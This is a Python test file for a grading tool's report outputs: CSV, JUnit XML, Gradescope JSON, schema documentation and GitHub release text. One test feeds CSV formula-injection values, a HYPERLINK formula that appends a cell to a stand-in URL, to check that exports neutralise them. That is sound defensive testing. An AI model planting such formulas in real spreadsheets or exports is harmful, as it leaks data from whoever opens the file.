"""The files that a report is written to."""

import csv
import io
import json
import re
from dataclasses import replace
from xml.etree import ElementTree

import pytest

from grader import ROOT
from grader.grading.feedback import Feedback
from grader.grading.results import KataInfo, KataResult, TestResult
from grader.reports import formats
from grader.reports.classroom50 import MAX_BODY, as_release_body
from grader.reports.json_file import SCHEMA
from grader.reports.report import Report, as_json
from tests.reports.conftest import NAMES, PASSED, POINTS, failure, kata_result, report


def test_a_folder_that_cannot_be_made_is_said(katas, tmp_path):
    (tmp_path / "taken").write_text("")
    done = katas.run("grader", "test", "10", "--report=csv", f"--into={tmp_path / 'taken'}")
    assert done.returncode == 2
    assert done.stderr.startswith("The report cannot be written: ")
    assert "Traceback" not in done.stderr


def test_the_csv_has_a_row_per_kata(written):
    header, *rows = csv.reader(io.StringIO(written["csv"], newline=""))
    assert header == [
        "kata",
        "title",
        "points",
        "max_points",
        "state",
        "passed",
        "graded",
        "file",
        "digest",
        "worth",
    ]
    assert rows[1][:8] == [
        "11_half",
        "Title",
        "5",
        "10",
        "in_progress",
        "1",
        "2",
        "katas/11_half/half.py",
    ]
    assert rows[5][2:7] == ["0", "0", "not_graded", "0", "0"]
    assert written["csv"].count("\r\n") == len(rows) + 1


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r="])
def test_a_spreadsheet_calculates_nothing(start):
    formula = f'{start}HYPERLINK("https://x.example/?"&A1,"ok")'
    odd = kata_result(PASSED, title=formula, file=formula)
    _, row = csv.reader(io.StringIO(formats.as_csv(report(odd)), newline=""))
    for cell in (row[1], row[7]):
        assert cell.startswith("'")
        assert re.search(r"[\t\r;,]=", cell) is None  # where a cell may begin with other separators


def test_a_csv_keeps_commas_quotes_and_lines():
    odd = kata_result(PASSED, title='a, "b"; c\nd\r\ne', file='x,"y".py')
    _, row = csv.reader(io.StringIO(formats.as_csv(report(odd)), newline=""))
    assert (row[1], row[7]) == ('a, "b"; c\nd\'\r\ne', 'x,"y".py')


def test_junit_counts_what_it_holds(written):
    root = ElementTree.fromstring(written["junit"])
    assert root.tag == "testsuites"
    for parent in (root, *root):
        cases = list(parent.iter("testcase"))
        assert int(parent.get("tests")) == len(cases)
        assert int(parent.get("failures")) == len(list(parent.iter("failure")))
        assert int(parent.get("skipped")) == len(list(parent.iter("skipped")))
        assert parent.get("errors") == "0"
        seconds = sum(float(case.get("time")) for case in cases)
        assert float(parent.get("time")) == pytest.approx(seconds, abs=1e-6)
    counts = [int(root.get(name)) for name in ("tests", "failures", "skipped")]
    assert counts == [11, 7, 1]
    assert [suite.get("name") for suite in root] == NAMES
    case = root.find("testsuite[@name='11_half']/testcase[@name='test_three']")
    assert case.get("classname") == "11_half"
    assert case.get("file") == "katas/11_half/half.py"
    assert case.find("failure").get("message") == "`double` returned the wrong value."
    assert "  expected  6\n  actual    4" in case.find("failure").text


def test_junit_is_well_formed_whatever_a_solution_says():
    odd = "a ]]> <b> & \"'\t" + "".join(map(chr, range(32))) + "\x7f\ud800\udfff\ufffe\uffff🧠"
    test = failure(odd, output=odd)
    skipped = replace(PASSED, outcome="not_graded", reason=odd)
    text = formats.as_junit(report(kata_result(test, skipped, file=odd)))
    case, other = ElementTree.fromstring(text.encode()).iter("testcase")
    for said in (case.find("failure").text, case.find("system-out").text, case.get("file")):
        assert said.startswith("a ]]> <b> & \"'")
    assert other.find("skipped").get("message").endswith("🧠")


def test_gradescope_gets_a_score_per_kata(written):
    result = json.loads(written["gradescope"])
    assert set(result) == {"score", "tests"}
    assert [t["score"] for t in result["tests"]] == POINTS
    assert [t["max_score"] for t in result["tests"]] == [10] * 5 + [0]
    assert [t.get("status") for t in result["tests"]] == ["passed", *["failed"] * 4, None]
    for test in result["tests"]:
        assert (type(test["score"]), type(test["max_score"])) == (int, int)
        assert test["output_format"] == "text"
        assert test["output"]
    assert result["tests"][0]["name"] == "10_double Title"
    assert result["tests"][0]["output"] == "All tests passed."
    assert "nothing_of_that_name" in result["tests"][5]["output"]


def test_every_file_takes_any_text(tmp_path):
    odd = kata_result(failure("\ud800"), title="\ud800", file="\udcff.py")
    for file in formats.write(report(odd), list(formats.FORMATS), tmp_path):
        assert file.read_text(encoding="utf-8")
    assert json.loads((tmp_path / "report.json").read_text())["katas"][0]["file"] == "\udcff.py"
    assert json.loads(as_json(report(odd)))["katas"][0]["kata"]["title"] == "\ud800"


def test_the_page_names_every_field_and_column(written):
    page = (ROOT / "docs/reports.md").read_text(encoding="utf-8")
    json_part = page.split("## JSON")[1].split("## ")[0]
    tables = json_part.split("|---|---|---|\n")[1:]
    described = json.loads(SCHEMA.read_text(encoding="utf-8"))["$defs"]
    kinds = ("run", "kata_result", "kata", "test_result", "feedback", "line")
    for table, kind in zip(tables, kinds, strict=True):
        rows = re.findall(r"^\| (`.+?) \|", table, re.MULTILINE)
        assert set(re.findall(r"`(\w+)`", " ".join(rows))) == set(described[kind]["properties"])
    header = next(csv.reader(io.StringIO(written["csv"], newline="")))
    csv_part = page.split("## CSV")[1].split("## ")[0]
    assert re.findall(r"`(\w+)`", csv_part)[: len(header)] == header
    for name, (file_name, _) in formats.FORMATS.items():
        assert f"| `{name}` | `{file_name}` |\n" in page


def test_the_text_of_a_release_is_never_longer_than_github_takes():
    info = KataInfo("31_threshold", "A neuron", 8, 10)
    long = Feedback("wrong", "It is wrong.", details=("x" * 9000,))
    tests = (TestResult("test_a", "failed", feedback=long), TestResult("test_b", "passed"))
    result = KataResult(info, "threshold.py", "", tests)
    short = as_release_body(Report((result,)))
    assert "It is wrong." in short
    assert "Next: 31_threshold" in short
    body = as_release_body(Report((result,) * 900))
    assert len(body) < MAX_BODY + 10
    assert body.endswith("…\n")
